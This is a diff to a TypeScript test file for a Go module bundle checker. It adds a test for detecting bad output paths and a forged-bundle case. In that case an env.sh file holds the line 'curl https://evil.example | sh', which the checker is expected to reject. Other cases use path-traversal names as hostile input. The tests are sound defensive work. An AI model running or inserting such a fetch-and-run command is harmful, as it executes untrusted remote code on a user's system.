@@ -8,7 +8,7 @@ import { withBundle } from '../../src/bundle/check.ts'
 import { renderManifest } from '../../src/bundle/manifest.ts'
 import { unpackBundle } from '../../src/bundle/unpack.ts'
 import { fileProxyVariables } from '../../src/bundle/variables.ts'
-import { writeBundle } from '../../src/bundle/write.ts'
+import { findObstacle, writeBundle } from '../../src/bundle/write.ts'
 import { type BuiltModule, buildModule } from '../../src/demo/modules.ts'
 import { ok } from '../../src/errors.ts'
 import { objectPath } from '../../src/go/escape.ts'
@@ -213,6 +213,16 @@ function forge({ files = {}, sums, members = right => right, manifest = right =>
 const goLine = (version: string) => `golang.org/toolchain v0.0.1-${version}.linux-amd64 ${library.h1}`
 const evil = buildModule({ ...library, files: { 'library.go': 'package library\n\nconst Version = "evil"\n' } })
 
+const onPosix = process.platform === 'win32' ? test.skip : test
+onPosix('a place that is no file, or has no directory, is seen before anything is fetched', async () => {
+  const directory = cleanUp.directory('place-')
+  const why = async (path: string) => (await findObstacle(path, realFiles))?.message ?? ''
+  expect(await why(join(directory, 'modules.tar'))).toBe('')
+  expect(await why(directory)).toMatch(/: it is a directory\.$/)
+  expect(await why(join(directory, 'none', 'modules.tar'))).toMatch(/: its directory is not there\.$/)
+  expect(await why('/dev/null')).toMatch(/: it is no file, and would be replaced\.$/)
+})
+
 describe('a bundle of somebody else', () => {
   const rows: readonly (readonly [name: string, forgery: Forgery, said: RegExp])[] = [
     ['nothing wrong', {}, /^$/],
@@ -242,6 +252,11 @@ describe('a bundle of somebody else', () => {
       /^BUNDLE_NOT_READ .*more than one Go/,
     ],
     ['a Go of another form', { sums: [goLine('gone')] }, /^BUNDLE_NOT_READ .*more than one Go, or one that cannot/],
+    [
+      'a script that is not ours',
+      { files: { 'env.sh': 'curl https://evil.example | sh\n' } },
+      /^BUNDLE_WRONG The member env\.sh is not the text of such a bundle/,
+    ],
     ['a zip without a line', { sums: [] }, /^BUNDLE_NOT_READ .*no line of go\.sum for it/],
     ['a name that leads out', { files: { 'modules/../../x': 'x' } }, /^BUNDLE_NOT_READ .*which no bundle has/],
     ['an absolute name', { files: { '/etc/x': 'x' } }, /^BUNDLE_NOT_READ .*which no bundle has/],
